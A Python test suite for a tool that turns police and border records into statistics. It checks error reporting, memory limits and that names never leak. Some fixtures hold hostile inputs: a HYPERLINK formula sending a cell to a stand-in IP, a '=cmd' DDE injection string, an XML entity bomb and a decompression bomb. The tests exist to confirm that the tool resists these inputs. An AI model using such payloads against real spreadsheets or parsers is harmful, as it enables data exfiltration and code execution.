"""What bad extracts get: what is wrong, where, and the fix, or a rejected row; no person's value.

Each test goes through the command line. Every person in these projects has one family name, which
may stand nowhere in what is printed.
"""

import io
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from palermo.sources.extracts import server as servers
from tests.end_to_end.records_projects import (
    BORDER,
    HEADING,
    POLICE,
    SECRET,
    police_rows,
    run,
    small,
    table,
)
from tests.projects import Ended, palermo, tree
from tests.unit.sources.extracts.conftest import Server, postgresql

__all__ = ["postgresql"]

WORKBOOK = POLICE.replace('"inputs/police.csv"', '"inputs/police.xlsx"').replace(
    'format = "csv"\nencoding = "utf-8"\ndelimiter = ";"', 'format = "xlsx"'
)
CSV_LINES = 'files = ["inputs/police.csv"]\nformat = "csv"\nencoding = "utf-8"\ndelimiter = ";"'


def refused(folder: Path, *words: str) -> Ended:
    """A run that makes nothing and a check that says the same; both name what, where, the fix."""
    before = tree(folder)
    ran = palermo("run", "--project", folder)
    checked = palermo("check", "--project", folder, "--json")
    assert (ran.code, checked.code) == (1, 1)
    assert tree(folder) == before
    assert not list(folder.rglob(".draft-*"))
    for error in checked.document["errors"]:
        assert error["what"] in ran.err
        assert error["where"]
        assert error["fix"]
    for said in (ran, checked):
        silent(said)
    assert "where: " in ran.err
    assert "fix:   " in ran.err
    for word in words:
        assert word in ran.err, ran.err
    return ran


def silent(ended: Ended) -> None:
    """It prints nobody's name and no traceback."""
    for text in (ended.out, ended.err):
        assert SECRET not in text
        assert SECRET.title() not in text
        assert "Traceback" not in text


def rejected(folder: Path, *groups: tuple[str, str, list[int]]) -> None:
    """Check finds these rejected rows (column, rule, rows) and nothing else; a run goes well."""
    checked = palermo("check", "--project", folder, "--json")
    assert checked.code == 1
    document = checked.document
    assert document["errors"] == []
    found = [(one["column"], one["rule"], one["rows"]) for one in document["rejected"]]
    assert sorted(found) == sorted(groups)
    assert all(one["fix"] for one in document["rejected"])
    silent(checked)
    silent(palermo("check", "--project", folder))
    silent(palermo("run", "--project", folder))


def book(rows: Sequence[Sequence[str]]) -> bytes:
    """A workbook."""
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def workbook_rows(count: int = 4) -> list[list[str]]:
    return [line.split(";") for line in (HEADING, *police_rows(count))]


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """A workbook with one of its parts replaced."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for one in old.namelist():
            new.writestr(one, content if one == name else old.read(one))
    return target.getvalue()


MEASURED = """
import sys
from palermo.cli import main
try:
    main(sys.argv[1:])
finally:
    (peak,) = (line for line in open("/proc/self/status") if line.startswith("VmHWM"))
    print("peak", int(peak.split()[1]) // 1024, file=sys.stderr)
"""
needs_proc = pytest.mark.skipif(
    not Path("/proc/self/status").exists(), reason="the peak of memory is told by Linux alone"
)


def measured(*words: object) -> tuple[subprocess.CompletedProcess[str], int]:
    """A command in a process of its own, and the most memory that it took, in MiB.

    What the system tells by getrusage is that of the process that started it, if that is larger.
    """
    command = [sys.executable, "-c", MEASURED, *map(str, words)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)
    return done, int(done.stderr.rsplit("peak ", 1)[1])


def test_a_workbook_that_is_none(tmp_path: Path) -> None:
    data = f"{SECRET} is no workbook".encode()
    folder = small(tmp_path, {"mappings/police.toml": WORKBOOK, "inputs/police.xlsx": data})
    refused(folder, "inputs/police.xlsx")


def test_a_broken_file_hides_no_mistake_of_another_mapping(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "inputs/police.xlsx": b"no workbook",
        "mappings/police.toml": WORKBOOK,
        "mappings/border.toml": BORDER.replace('column = "', 'column = "no such ', 1),
    }
    refused(small(tmp_path, files), "inputs/police.xlsx", "no XLSX workbook", "no such ")


def test_a_workbook_cut_off(tmp_path: Path) -> None:
    data = book(workbook_rows(50))
    files: dict[str, str | bytes] = {
        "mappings/police.toml": WORKBOOK,
        "inputs/police.xlsx": data[: len(data) // 2],
    }
    refused(small(tmp_path, files), "inputs/police.xlsx")


@needs_proc
def test_a_workbook_that_is_a_bomb_takes_little_memory(tmp_path: Path) -> None:
    """A few kilobytes that unpack to 40 MB without a row are refused, and not kept in memory."""
    peaks = []
    for name, size in (("small", 1_000), ("large", 40_000_000)):
        sheet = b"<worksheet><sheetData>" + b" " * size + b"</sheetData></worksheet>"
        data = with_part(book(workbook_rows()), "xl/worksheets/sheet1.xml", sheet)
        assert len(data) < 100_000
        files: dict[str, str | bytes] = {
            "mappings/police.toml": WORKBOOK,
            "inputs/police.xlsx": data,
        }
        done, peak = measured("check", "--project", small(tmp_path / name, files))
        assert done.returncode == 1
        assert "inputs/police.xlsx" in done.stdout
        peaks.append(peak)
    assert peaks[1] - peaks[0] < 40


def test_entities_in_a_workbook_are_not_expanded(tmp_path: Path) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 1000 + b'">]>'
    data = book(workbook_rows())
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        sheet = old.read("xl/worksheets/sheet1.xml")
    at = sheet.index(b"<worksheet")
    data = with_part(data, "xl/worksheets/sheet1.xml", sheet[:at] + bomb + sheet[at:])
    files: dict[str, str | bytes] = {"mappings/police.toml": WORKBOOK, "inputs/police.xlsx": data}
    refused(small(tmp_path, files), "inputs/police.xlsx")


def test_a_formula_in_a_workbook_is_not_computed(tmp_path: Path) -> None:
    rows = workbook_rows()
    rows[2][8] = '=HYPERLINK("http://192.0.2.1/"&D3,"x")'
    files: dict[str, str | bytes] = {
        "mappings/police.toml": WORKBOOK,
        "inputs/police.xlsx": book(rows),
    }
    ended = refused(small(tmp_path, files), "inputs/police.xlsx", "formulas have no results")
    assert "192.0.2.1" not in ended.err


def test_a_formula_in_a_csv_reaches_no_spreadsheet(tmp_path: Path) -> None:
    rows = police_rows()
    rows[1] = rows[1].replace("Berta", "=cmd|' /C calc'!A0").replace(";yes;", ";?;")
    ran = run(small(tmp_path, {"inputs/police.csv": table(HEADING, rows)}))
    (file,) = (tmp_path / f"work/{ran.pages.name}.rejects").iterdir()
    assert ";'=cmd|" in file.read_text("utf-8")
    for path in (ran.pages / "release").iterdir():
        assert "=cmd" not in path.read_text("utf-8")


def test_a_wrong_encoding(tmp_path: Path) -> None:
    rows = [*police_rows(), police_rows(9)[-1].replace("Anna", "Zoë")]
    data = table(HEADING, rows).encode("cp1252")
    checked = palermo("check", "--project", small(tmp_path, {"inputs/police.csv": data}), "--json")
    assert checked.code == 1
    silent(checked)
    told = json.dumps(checked.document)
    assert "inputs/police.csv" in told
    assert "encoding" in told or "undecodable" in told or "unreadable row" in told


def test_an_encoding_that_fits_no_row(tmp_path: Path) -> None:
    data = table(HEADING, police_rows()).encode("utf-16-le")
    folder = small(tmp_path, {"inputs/police.csv": data})
    refused(folder, "inputs/police.csv, line 1", 'encoding = "utf-16-le"')


def test_a_file_that_says_its_encoding_is_read_by_it(tmp_path: Path) -> None:
    data = table(HEADING, police_rows()).encode("utf-16")
    checked = palermo("check", "--project", small(tmp_path, {"inputs/police.csv": data}))
    assert checked.code == 0
    assert "inputs/police.csv: 8 rows read = 8 kept" in checked.out


def test_an_empty_file(tmp_path: Path) -> None:
    refused(small(tmp_path, {"inputs/police.csv": b""}), "inputs/police.csv", "empty")


def test_a_database_whose_last_rows_stand_in_its_log(tmp_path: Path) -> None:
    """Nor is it said that nothing has changed since the last run."""
    path = tmp_path / "inputs/police.sqlite"
    path.parent.mkdir()
    columns = ", ".join(f'"{one}"' for one in HEADING.split(";"))
    with closing(sqlite3.connect(path, isolation_level=None)) as writer:
        writer.execute(f"CREATE TABLE persons ({columns})")
        for row in police_rows():
            writer.execute(f"INSERT INTO persons VALUES ({', '.join('?' * 10)})", row.split(";"))  # noqa: S608
    plan = 'files = ["inputs/police.sqlite"]\nformat = "sqlite"\ntable = "persons"'
    folder = small(tmp_path, {"mappings/police.toml": POLICE.replace(CSV_LINES, plan)})
    run(folder)
    with closing(sqlite3.connect(path, isolation_level=None)) as writer:
        writer.execute("PRAGMA journal_mode = wal")
        writer.execute("DELETE FROM persons WHERE number = '1'")
        refused(folder, "inputs/police.sqlite", "police.sqlite-wal", "VACUUM INTO")


def test_a_folder_and_a_pipe_are_no_files(tmp_path: Path) -> None:
    folder = small(tmp_path)
    (folder / "inputs/police.csv").unlink()
    (folder / "inputs/police.csv").mkdir()
    (folder / "inputs/border.csv").unlink()
    os.mkfifo(folder / "inputs/border.csv")
    ended = palermo("check", "--project", folder)
    silent(ended)
    assert "this is a folder, not a file" in ended.out
    assert "this is not an ordinary file" in ended.out


def test_a_file_in_the_place_of_the_work_folder(tmp_path: Path) -> None:
    refused(small(tmp_path, {"work": b""}), "a file lies where a folder must be")


def test_a_missing_file(tmp_path: Path) -> None:
    folder = small(tmp_path)
    (folder / "inputs/police.csv").unlink()
    refused(folder, "inputs/police.csv")


def test_a_heading_without_rows_is_read_as_none(tmp_path: Path) -> None:
    folder = small(tmp_path, {"inputs/police.csv": f"{HEADING}\n"})
    ended = palermo("run", "--project", folder)
    silent(ended)
    if ended.code == 0:
        assert "inputs/police.csv: 0 rows read" in ended.out
    else:
        assert "inputs/police.csv" in ended.err
    checked = palermo("check", "--project", folder)
    assert "note: inputs/police.csv holds no rows: ask whether it is whole" in checked.out


@pytest.mark.parametrize("header", [1, 2], ids=["no heading", "set one too high"])
def test_a_persons_row_in_the_place_of_the_headings_is_printed_nowhere(
    tmp_path: Path, header: int
) -> None:
    rows = [HEADING] * (header - 1) + police_rows()
    mapping = POLICE.replace('delimiter = ";"', f'delimiter = ";"\nheader = {header}')
    folder = small(
        tmp_path, {"inputs/police.csv": table(rows[0], rows[1:]), "mappings/police.toml": mapping}
    )
    refused(folder, f"row {header} does not look like headings", "set header")
    if header == 1:
        drafted = palermo("map", folder / "inputs/police.csv")
        silent(drafted)
        assert drafted.code == 1


def test_columns_that_moved_are_found_by_their_headings(tmp_path: Path) -> None:
    turned = [";".join(reversed(line.split(";"))) for line in [HEADING, *police_rows()]]
    moved = run(small(tmp_path / "moved", {"inputs/police.csv": "\n".join([*turned, ""])}))
    same = run(small(tmp_path / "same"))
    assert moved.release("rejected.csv") == []
    values = [
        {row["figure"]: (row["value"], row["lower"]) for row in one.release("figures.csv")}
        for one in (moved, same)
    ]
    assert values[0] == values[1]


def test_a_column_renamed_names_the_closest_heading(tmp_path: Path) -> None:
    text = table(HEADING.replace("identified on", "identifed on"), police_rows())
    folder = small(tmp_path, {"inputs/police.csv": text})
    refused(folder, "'identified on'", "mappings/police.toml", "inputs/police.csv", "identifed on")


def test_a_column_that_a_mapping_names_and_no_file_has(tmp_path: Path) -> None:
    mapping = POLICE.replace('column = "sex"', 'column = "gender"')
    refused(small(tmp_path, {"mappings/police.toml": mapping}), "'gender'", "inputs/police.csv")


@pytest.mark.parametrize(
    "more",
    [
        '\n[fields.sex]\ncolumn = "sex"\n',
        '\n[ignore]\ncolumns = ["sex"]\n',
        '\n[ignore]\ncolumns = ["notes", "notes"]\n',
        '\n[fields.citizenship]\ncolumn = "sex"\n',
    ],
    ids=["one field twice", "used and ignored", "ignored twice", "two fields"],
)
def test_a_mapping_that_names_a_column_twice(tmp_path: Path, more: str) -> None:
    folder = small(tmp_path, {"mappings/police.toml": POLICE + more})
    refused(folder, "mappings/police.toml, line", "notes" if "notes" in more else "sex")


def test_a_heading_that_stands_twice(tmp_path: Path) -> None:
    text = table(HEADING.replace("given", "family"), police_rows())
    refused(small(tmp_path, {"inputs/police.csv": text}), "'family'", "inputs/police.csv")


def test_a_day_that_is_none(tmp_path: Path) -> None:
    rows = police_rows()
    rows[0] = rows[0].replace("01/02/2005", "31/02/2005")
    folder = small(tmp_path, {"inputs/police.csv": table(HEADING, rows)})
    rejected(folder, ("met", "no such day", [2]))


def test_a_code_that_is_not_in_the_list(tmp_path: Path) -> None:
    """A name in a column of codes by mistake is told to nobody."""
    rows = police_rows()
    rows[3] = rows[3].replace(";yes;", f";{SECRET};")
    folder = small(tmp_path, {"inputs/police.csv": table(HEADING, rows)})
    rejected(folder, ("status", "unknown code", [5]))


def test_rows_with_too_many_cells_and_broken_quotes_die_in_no_reader(tmp_path: Path) -> None:
    rows = police_rows()
    rows[2] += ";one more"
    rows[6] = rows[6].replace("Greta", '"Gre"ta')
    folder = small(tmp_path, {"inputs/police.csv": table(HEADING, rows)})
    checked = palermo("check", "--project", folder, "--json")
    silent(checked)
    (account,) = (one for one in checked.document["sources"] if "police" in one["source"])
    assert account["read"] == 8 == account["kept"] + account["warned"] + account["rejected"]
    assert 4 in [row for one in checked.document["rejected"] for row in one["rows"]]


def test_two_agencies_with_one_id_space(tmp_path: Path) -> None:
    mapping = BORDER.replace("version = 1", 'version = 1\nid_space = "police"')
    refused(small(tmp_path, {"mappings/border.toml": mapping}), "police", "id_space")


def test_an_unknown_key_in_a_mapping_names_the_closest(tmp_path: Path) -> None:
    mapping = POLICE.replace("purpose", "purpos")
    refused(small(tmp_path, {"mappings/police.toml": mapping}), "mappings/police.toml", "purpose")


@pytest.mark.parametrize("key", ["purpose", "legal_basis"])
def test_a_mapping_that_does_not_say_why_is_refused(tmp_path: Path, key: str) -> None:
    lines = [line for line in POLICE.splitlines() if not line.startswith(key)]
    folder = small(tmp_path, {"mappings/police.toml": "\n".join(lines)})
    refused(folder, "mappings/police.toml", key)


def test_the_mistakes_of_all_extracts_are_told_at_once(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "inputs/police.csv": b"",
        "inputs/border.csv": table("a;b", ["1;2"]),
    }
    ended = palermo("check", "--project", small(tmp_path, files), "--json")
    places = " ".join(error["where"] for error in ended.document["errors"])
    assert "inputs/police.csv" in places


def asked(server: Server, folder: Path, rows: int = 8) -> Path:
    """The small project with the police's rows on a server."""
    name = f"{server.schema}.persons"
    columns = ", ".join(f'"{one}" text' for one in HEADING.split(";"))
    values = ", ".join(
        "(" + ", ".join(f"'{cell}'" for cell in row.split(";")) + ")" for row in police_rows(rows)
    )
    server.run(f"CREATE TABLE {name} ({columns})", f"INSERT INTO {name} VALUES {values}")  # noqa: S608 - a test's own
    plan = f'format = "postgresql"\nconnection = "PALERMO_POLICE_DB"\ntable = "{name}"'
    return small(folder, {"mappings/police.toml": POLICE.replace(CSV_LINES, plan)})


def test_a_server_is_counted_as_a_file_is(postgresql: Server, tmp_path: Path) -> None:
    ran = run(asked(postgresql, tmp_path))
    assert "police (server): 8 rows read" in ran.ended.out
    assert ran.figure("identified/2005")["value"] == "4"


def test_a_server_that_goes_away_while_it_is_read(
    postgresql: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = asked(postgresql, tmp_path)
    before = tree(folder)
    real = servers.Answer._batches

    def cut(self: servers.Answer, *words: Any) -> Any:
        kill = (
            "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity"  # noqa: S608 - a test's own
            " WHERE pid <> pg_backend_pid() AND state LIKE 'idle in%'"
            f" AND query LIKE '%{postgresql.schema}%'"
        )
        assert postgresql.rows(kill)[0][0] > 0
        yield from real(self, *words)

    monkeypatch.setattr(servers.Answer, "_batches", cut)
    ended = palermo("run", "--project", folder)
    assert ended.code == 1
    silent(ended)
    assert "where: " in ended.err
    assert "fix:   " in ended.err
    assert "127.0.0.1" not in ended.err
    assert tree(folder) == before
    assert not list(folder.rglob(".draft-*"))


def test_a_server_that_is_not_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = 'format = "postgresql"\nconnection = "PALERMO_POLICE_DB"\ntable = "persons"'
    folder = small(tmp_path, {"mappings/police.toml": POLICE.replace(CSV_LINES, plan)})
    monkeypatch.delenv("PALERMO_POLICE_DB", raising=False)
    refused(folder, "PALERMO_POLICE_DB")
    monkeypatch.setenv("PALERMO_POLICE_DB", f"postgresql://u:{SECRET}@127.0.0.1:1/x")
    refused(folder, "police")


@needs_proc
def test_a_large_file_is_read_in_little_memory(tmp_path: Path) -> None:
    """60 MB: what the whole check takes stays below 900 MiB."""
    folder = small(tmp_path)
    filler = "x" * 400
    with (folder / "inputs/police.csv").open("w", encoding="utf-8") as file:
        file.write(f"{HEADING};notes\n")
        for at in range(130_000):
            day = f"{at % 28 + 1:02}/02/{2005 + at % 2}"
            file.write(
                f"{at};P{at};R{at // 3};{SECRET};Anna;{day[:6]}1984;F;yes;{day};{day};{filler}\n"
            )
    assert (folder / "inputs/police.csv").stat().st_size > 60_000_000
    done, peak = measured("check", "--project", folder)
    assert done.returncode == 0, done.stderr
    assert peak < 900
    assert SECRET not in done.stdout + done.stderr
    assert not list(folder.rglob(".draft-*"))


def test_names_stand_in_no_log_of_a_run_and_in_no_page(tmp_path: Path) -> None:
    ran = run(small(tmp_path))
    silent(ran.ended)
    for data in tree(ran.pages).values():
        assert SECRET.encode() not in data
    for command in (("explain", "identified/2005"), ("explain", "identified/2005", "--json")):
        silent(palermo(*command, "--project", tmp_path))


def test_the_folder_of_persons_data_is_its_owners_alone(tmp_path: Path) -> None:
    folder = small(tmp_path)
    run(folder)
    assert (folder / "work").stat().st_mode & 0o077 == 0
